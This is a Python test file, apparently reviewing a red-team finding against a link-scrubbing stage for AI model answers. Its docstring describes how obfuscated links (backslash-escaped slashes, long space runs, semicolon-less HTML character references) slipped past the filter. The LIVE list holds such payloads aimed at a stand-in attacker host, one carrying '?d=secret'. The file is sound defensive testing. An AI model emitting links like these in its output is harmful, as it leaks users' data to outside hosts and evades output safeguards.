"""Review of red team 8: links a renderer makes live that the link stage still passed.

CommonMark decodes a backslash escape in a destination (`https:\\/\\/h` is `https://h`)
and bounds no run of spaces before it; HTML decodes a numeric character reference without
its `;` (`https&#58//h`, `evil&#46org`). The link stage read `\\/` as two slashes with an
empty host, at most 16 spaces after the lead, and references only with their `;`, and
passed all five. Each must come out defanged, whole and at every split, and through the
gateway (openai SDK, streamed and not).
"""

from __future__ import annotations

import html

import pytest

from tests.linecount import lines_run_in
from tests.scrubbing.answer_stream import every_split, through_gateway
from tests.scrubbing.test_pii_links import EVIL, MSGS, ask, gw, neutraliser, whole  # noqa: F401

pytestmark = pytest.mark.slow(cpu_s=2)

LIVE = [
    f"[v](https:\\/\\/{EVIL}/x?d=secret)",
    f"[v](https:/\\/{EVIL}/x)",
    "[v](" + " " * 17 + f"//{EVIL}/x)",
    "[v](\n" + " " * 40 + f"//{EVIL}/x)",
    '<a href="https://press-verify&#46org/x">a</a>',
    f'<a href="https&#58//{EVIL}/x">a</a>',
    f'<a href="http&#x3a&#x2f&#x2f{EVIL}/x">a</a>',
    "<a href=" + " " * 20 + f"//{EVIL}/x>a</a>",
]
#: Still prose or a link that passes: a reference that is another character, a comment.
FINE = [
    "x = (" + " " * 30 + "// note: keep this\n",
    "See https://status.harbourpost.co.uk/i/2291?a=1&b=2 and f(a) (   // the default).",
]


def _live(out: str) -> bool:
    """Would a renderer still reach the attacker's host? (references and escapes decoded)"""
    text = html.unescape(out).replace("\\/", "/").replace("\n", "").replace(" ", "")
    return "//press-verify.org" in text


@pytest.mark.parametrize("link", LIVE, ids=range(len(LIVE)))
def test_a_live_link_is_defanged_whole_and_at_every_split(link: str) -> None:
    text = f"Please {link} now."
    out = every_split(text, whole, neutraliser)
    assert out != text and not _live(out), out


@pytest.mark.parametrize("text", FINE)
def test_prose_passes(text: str) -> None:
    assert whole(text) == text


def _spaces_work(n: int) -> int:
    text = ("(" + " " * 200 + "x ") * n
    with lines_run_in(("scrubbing/links.py",)) as count:
        neu = neutraliser()
        for i in range(0, len(text), 64):
            neu.feed(text[i : i + 64])
        neu.flush()
    return count[0]


def test_runs_of_spaces_after_a_lead_cost_linear_work() -> None:
    """Python lines run at n and 2n leads with 200 spaces, streamed (not timed)."""
    small, big = _spaces_work(100), _spaces_work(200)
    assert big < 2.5 * small, (small, big)


def test_through_the_gateway_streamed_and_not(gw) -> None:  # noqa: F811
    text = "Done. " + " ".join(LIVE) + " ok."
    content = through_gateway(gw, text, MSGS)
    assert not _live(content), content
